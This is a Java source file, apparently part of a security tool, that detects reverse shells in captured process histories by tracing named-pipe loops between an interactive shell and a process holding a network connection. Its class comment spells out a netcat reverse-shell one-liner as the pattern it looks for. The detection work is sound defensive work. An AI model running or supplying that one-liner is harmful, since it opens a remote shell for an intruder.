package io.scapula.analyzers.session;

import io.scapula.history.CaptureHistory;
import io.scapula.history.Process;
import io.scapula.history.Program;
import io.scapula.state.FdType;
import io.scapula.state.FdVersion;
import io.scapula.state.StandardStreams;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/**
 * Shells in a ring: what the shell writes goes through a pipe to a program with a connection, and what that one receives
 * comes back to the shell, through a named pipe: {@code cat f | sh -i 2>&1 | nc 192.0.2.1 4444 > f}.
 */
final class NetworkPipelines {
    /** Readers of one pipe that are looked at; a pipeline has one. */
    private static final int MOST_READERS = 16;

    private final NetworkFacts network;
    private final Map<Long, List<Program>> readers = new HashMap<>();

    NetworkPipelines(CaptureHistory history, NetworkFacts network) {
        this.network = network;
        for (Program program : history.programs()) {
            FdVersion input = program.streams().input();
            if (input != null && input.type() == FdType.FIFO && input.inode() != 0) {
                List<Program> known = readers.computeIfAbsent(input.inode(), key -> new ArrayList<>(1));
                if (known.size() < MOST_READERS) {
                    known.add(program);
                }
            }
        }
    }

    /** The peer that a shell with these streams talks to, or {@code null} if it stands in no such ring. */
    @Nullable
    Peer peerOf(StandardStreams shell) {
        FdVersion input = shell.input();
        FdVersion output = shell.output();
        if (input == null || output == null || output.type() != FdType.FIFO || output.inode() == 0) {
            return null;
        }
        for (Program reader : readers.getOrDefault(output.inode(), List.of())) {
            Peer peer = leadsBack(input, reader.streams().output()) ? peerOf(reader.process()) : null;
            if (peer != null) {
                return peer;
            }
        }
        return null;
    }

    /** Whether what the other end of the shell's pipe writes may be what the shell reads. */
    private static boolean leadsBack(FdVersion input, @Nullable FdVersion received) {
        if (received == null || received.name().startsWith("/dev/")) {
            return false;
        }
        if (input.type() == FdType.FIFO) {
            return received.type() == FdType.FIFO || received.type().isFile();
        }
        return input.type().isFile() && !input.name().isEmpty() && input.name().equals(received.name());
    }

    private @Nullable Peer peerOf(Process process) {
        long end = process.hasEnded() ? process.endEvent() : Long.MAX_VALUE;
        Peer connected = network.lastConnected(process.pid(), process.startEvent(), end);
        return connected != null ? connected : network.lastAccepted(process.pid(), process.startEvent(), end);
    }
}
